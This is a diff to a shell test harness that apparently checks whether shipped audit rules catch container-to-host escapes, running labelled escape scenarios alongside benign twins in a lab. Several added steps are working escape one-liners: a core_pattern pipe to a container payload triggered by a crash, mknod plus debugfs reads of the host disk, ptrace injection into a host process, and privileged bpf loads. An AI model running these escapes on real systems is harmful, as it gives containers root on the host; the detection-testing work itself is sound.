@@ -55,13 +55,17 @@ iptables-save > "$WORK/iptables.before" 2>/dev/null || true
 FORWARD_POLICY=$(iptables -S FORWARD 2>/dev/null | awk '/^-P FORWARD/{print $3}')
 LOOPS_BEFORE=$(losetup -a | wc -l)
 CAPBND=$(awk '/^CapBnd/{print $2}' /proc/self/status)
-printf 'audit_enabled=%s\nbacklog_limit=%s\nbacklog_wait_time=%s\nip_forward=%s\nloops=%s\nCapBnd=%s\n' \
-  "$AUDIT_ENABLED" "$AUDIT_BACKLOG" "$AUDIT_WAIT" "$IP_FORWARD" "$LOOPS_BEFORE" "$CAPBND" > "$OUT/restore.txt"
+CORE_PATTERN=$(cat /proc/sys/kernel/core_pattern)
+printf 'audit_enabled=%s\nbacklog_limit=%s\nbacklog_wait_time=%s\nip_forward=%s\nloops=%s\nCapBnd=%s\ncore_pattern=%s\n' \
+  "$AUDIT_ENABLED" "$AUDIT_BACKLOG" "$AUDIT_WAIT" "$IP_FORWARD" "$LOOPS_BEFORE" "$CAPBND" "$CORE_PATTERN" > "$OUT/restore.txt"
 
 FORWARD_POLICY=${FORWARD_POLICY:-}; AUDITD_PID=""; CONTAINERD_PID=""; DOCKERD_PID=""; EVENTS_PID=""; LOOP=""; WRAPPER=""
+TARGET_PID=""
 teardown() {
   set +e
   say "teardown"
+  printf '%s\n' "$CORE_PATTERN" > /proc/sys/kernel/core_pattern
+  [ -n "$TARGET_PID" ] && kill "$TARGET_PID" 2>/dev/null
   [ -n "$EVENTS_PID" ] && kill "$EVENTS_PID" 2>/dev/null
   if [ -n "$DOCKERD_PID" ]; then
     ids=$($DOCKER ps -aq --filter name=lab- 2>/dev/null); [ -n "$ids" ] && $DOCKER rm -f $ids >/dev/null 2>&1
@@ -109,14 +113,15 @@ auditd -n -c "$WORK/auditconf" > "$WORK/auditd.out" 2>&1 &
 AUDITD_PID=$!
 for _ in $(seq 50); do [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] && break; sleep 0.1; done
 [ "$(auditctl -s | awk '/^pid/{print $2}')" = "$AUDITD_PID" ] || { say "auditd did not start: $(cat "$WORK/auditd.out")"; exit 77; }
-auditctl -b 8192 --backlog_wait_time 60000 -e 1 >/dev/null
-{
-  for arch in b64 b32; do
-    echo "-a always,exit -F arch=$arch -S unshare,setns,mount,umount2,keyctl,add_key,request_key,init_module,finit_module,pivot_root,chroot,open_by_handle_at,execve -k $TAG"
-  done
-  for agent in /sys/fs/cgroup/*/release_agent; do [ -f "$agent" ] && echo "-w $agent -p wa -k $TAG"; done
-} > "$WORK/lab.rules"
-auditctl -R "$WORK/lab.rules" >/dev/null || { say "auditctl -R failed"; exit 1; }
+auditctl -e 1 >/dev/null
+# The rules the add-on ships (docs/audit-rules.md) and their per-host companion, made by the documented command.
+RULES="$HERE/../../package/README/escape_to_host.rules"
+auditctl -R "$RULES" >/dev/null || { say "auditctl -R $RULES failed"; exit 1; }
+COMPANION=$(sed -n 's/^##   \(for f in .*release_agent.*\) > .*/\1/p' "$RULES")
+[ -n "$COMPANION" ] || { say "no companion command in $RULES"; exit 1; }
+sh -c "$COMPANION" > "$WORK/companion.rules"
+if [ -s "$WORK/companion.rules" ]; then auditctl -R "$WORK/companion.rules" >/dev/null || { say "companion rules failed"; exit 1; }; fi
+cat "$RULES" "$WORK/companion.rules" > "$OUT/rules.loaded"
 
 marker() { auditctl -m "$TAG marker: $*"; }
 STEP=0
@@ -136,7 +141,7 @@ step() {  # step ID LABEL DESCRIPTION -- command...
 # ---- 3. containerd and dockerd ----------------------------------------------------------------------------------
 if [ $(( 0x$CAPBND >> 24 & 1 )) = 0 ]; then
   WRAPPER=/usr/local/sbin/runc
-  install -m 0755 "$HERE/runc-capfix.py" "$WRAPPER"
+  gcc -O2 -o "$WRAPPER" "$HERE/runc-capfix.c" || { say "runc wrapper build failed"; exit 1; }
 fi
 PATH=/usr/local/sbin:/usr/sbin:/usr/bin:/sbin:/bin containerd --log-level info > "$OUT/containerd.log" 2>&1 &
 CONTAINERD_PID=$!
@@ -157,6 +162,8 @@ fi
 mkdir -p "$WORK/rootfs" "$WORK/busybox/bin"
 tar -C "$WORK/rootfs" -xf "$CACHE/bookworm-minbase.tar"
 gcc -O2 -o "$WORK/rootfs/usr/local/bin/shocker" "$HERE/shocker.c"
+gcc -O2 -o "$WORK/rootfs/usr/local/bin/families" "$HERE/families.c"
+cp "$WORK/rootfs/usr/local/bin/families" "$WORK/families"
 cp /usr/bin/docker "$WORK/rootfs/usr/local/bin/docker"
 tar -C "$WORK/rootfs" -c . | $DOCKER import -c 'CMD ["/bin/bash"]' - lab/debian:bookworm >/dev/null
 cp /bin/busybox "$WORK/busybox/bin/busybox"
@@ -208,6 +215,28 @@ step E07a attempt "keyctl in a default container (seccomp)" -- $D lab-e07a lab/d
 step E07b suspicious "keyctl in a privileged container (host user keyring)" -- $D lab-e07b --privileged lab/debian:bookworm sh -c 'keyctl show @u; keyctl add user lab-key v1 @u; keyctl search @u user lab-key; echo done'
 step E08 suspicious "Shocker open_by_handle_at with DAC_READ_SEARCH" -- $D lab-e08 --cap-add DAC_READ_SEARCH lab/debian:bookworm shocker /etc/hosts
 step E09 suspicious "SYS_ADMIN + seccomp=unconfined: cgroup mount" -- $D lab-e09 --cap-add SYS_ADMIN --security-opt seccomp=unconfined lab/debian:bookworm sh -c 'mkdir -p /tmp/c && mount -t cgroup -o freezer cgroup /tmp/c && cat /tmp/c/release_agent; umount /tmp/c'
+# ---- 6. escape families of issue 20, each with a benign twin --------------------------------------------------
+# Usermode helpers: the kernel runs core_pattern's pipe program in the host's namespaces, as root, child of kthreadd.
+printf '#!/bin/sh\ncat > /dev/null\ndate > /dev/null\n' > "$WORK/crash-handler.sh" && chmod 0755 "$WORK/crash-handler.sh"
+step B16 benign "host admin pipes core dumps to a host crash handler, a container process crashes" -- sh -c "echo '|$WORK/crash-handler.sh %p' > /proc/sys/kernel/core_pattern && $D lab-b16 lab/debian:bookworm sh -c 'ulimit -c unlimited; sh -c \"kill -SEGV \\\$\\\$\"; sleep 1; echo crashed'; rc=\$?; printf '%s\\n' '$CORE_PATTERN' > /proc/sys/kernel/core_pattern; exit \$rc"
+step E10 escape "privileged: core_pattern pipe to a payload in the container's upperdir, then a crash" -- $D lab-e10 --privileged lab/debian:bookworm sh -c 'up=$(sed -n "s/.*upperdir=\([^,]*\).*/\1/p" /proc/self/mounts | head -1); printf "#!/bin/sh\nid > $up/core-out\nhostname >> $up/core-out\n" > /cmd; chmod a+x /cmd; echo "|$up/cmd %p" > /proc/sys/kernel/core_pattern; ulimit -c unlimited; sh -c "kill -SEGV \$\$"; sleep 2; cat /core-out; echo core > /proc/sys/kernel/core_pattern'
+printf '%s\n' "$CORE_PATTERN" > /proc/sys/kernel/core_pattern
+# Raw device access without a mount: a node for the stand-in host disk, read with debugfs.
+MAJ=$(( 0x$(stat -c %t "$LOOP") )); MIN=$(( 0x$(stat -c %T "$LOOP") ))
+step E12 escape "default caps + device-cgroup-rule b *:* rwm: mknod of the host disk, debugfs reads it (no mount)" -- $D lab-e12 --device-cgroup-rule 'b *:* rwm' lab/debian:bookworm sh -c "mknod /tmp/hd b $MAJ $MIN && debugfs -R 'cat /etc/hostname' /tmp/hd"
+step E12a attempt "default caps, no device-cgroup rule: mknod works, the device cgroup refuses the open" -- $D lab-e12a lab/debian:bookworm sh -c "mknod /tmp/hd b $MAJ $MIN && debugfs -R 'cat /etc/hostname' /tmp/hd"
+step B17 benign "host admin runs debugfs on a disk" -- debugfs -R 'cat /etc/hostname' "$LOOP"
+step B18 benign "container creates a harmless character device node (1:3, null)" -- $D lab-b18 lab/debian:bookworm sh -c 'mknod /tmp/null c 1 3 && echo x > /tmp/null && echo ok'
+# Host process injection: a host process the container reaches through --pid=host.
+sleep 600 & TARGET_PID=$!
+step E13 escape "pid=host + SYS_PTRACE: ptrace poke and process_vm_writev into a host process" -- $D lab-e13 --pid=host --cap-add SYS_PTRACE lab/debian:bookworm families inject "$TARGET_PID"
+step B19 benign "debugger container (SYS_PTRACE) tracing its own child" -- $D lab-b19 --cap-add SYS_PTRACE lab/debian:bookworm families trace-self
+kill "$TARGET_PID" 2>/dev/null; TARGET_PID=""
+# Kernel code: eBPF program loads and module loads (this kernel has no module support: ENOSYS).
+step E14 suspicious "privileged: bpf program load" -- $D lab-e14 --privileged lab/debian:bookworm families bpf
+step E14a attempt-unseen "default container: bpf program load refused by seccomp (no audit record)" -- $D lab-e14a lab/debian:bookworm families bpf
+step B20 benign "host agent loads a bpf program" -- "$WORK/families" bpf
+step E15 attempt "privileged: finit_module/init_module (refused: ENOSYS without module support)" -- $D lab-e15 --privileged lab/debian:bookworm families module
 step B14 benign-ambiguous "privileged agent-like container, no escape syscalls" -- $D lab-b14 --privileged lab/busybox sh -c 'ls /dev | wc -l'
 step B15 benign "short-lived default container after the attacks" -- $D lab-b15 lab/busybox echo end
 marker "phase=scenarios end"
